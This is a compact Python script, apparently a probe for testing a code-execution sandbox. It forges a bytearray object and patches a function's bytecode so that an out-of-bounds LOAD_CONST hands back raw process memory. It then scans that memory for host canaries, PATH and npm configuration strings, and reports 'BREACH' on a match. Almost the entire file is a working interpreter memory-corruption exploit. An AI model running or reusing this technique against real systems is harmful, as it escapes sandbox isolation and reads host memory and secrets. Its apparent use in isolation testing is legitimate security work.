"""Reads the whole linear memory, past the interpreter's rules, for anything that belongs to the host."""
from platform_sdk import get_input, send_output
import opcode, struct

WORD = struct.calcsize("P")
HEAD = bytes.__basicsize__ - 1

def words(*values):
    return b"".join((value & ((1 << 8 * WORD) - 1)).to_bytes(WORD, "little") for value in values)

def whole_memory():
    def take():
        return 0
    array = words(1 << 20, id(bytearray), 2**31 - 1, 2**31 - 1, 0, 0, 0)
    slot = words(id(array) + HEAD)
    first = id(take.__code__.co_consts) + tuple.__basicsize__
    index = ((id(slot) + HEAD - first) // WORD) & 0xFFFFFFFF
    code = bytes([opcode.opmap["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([opcode.opmap["EXTENDED_ARG"], index >> shift & 255])
    take.__code__ = take.__code__.replace(
        co_code=code + bytes([opcode.opmap["LOAD_CONST"], index & 255, opcode.opmap["RETURN_VALUE"], 0]))
    return take(), array, slot

memory, *keep = whole_memory()
send_output("HELD:reading")
# In two parts, so that this run's own memory does not hold them whole.
marks = [(b"CANARY-", b"ENV-"), (b"CANARY-", b"FILE-"), (b"/usr/local/", b"sbin:"), (b"/node_mod", b"ules/"), (b"npm_", b"config_")]
if type(memory) is bytearray:
    for start in range(0, 64 << 20, 1 << 16):
        window = memory[max(start - 64, 0):start + (1 << 16)]
        for first, second in marks:
            at = window.find(first)
            while at >= 0:
                if window[at + len(first):at + len(first) + len(second)] == second:
                    send_output("BREACH:%r %r at %d" % (first, second, start))
                    raise SystemExit
                at = window.find(first, at + 1)
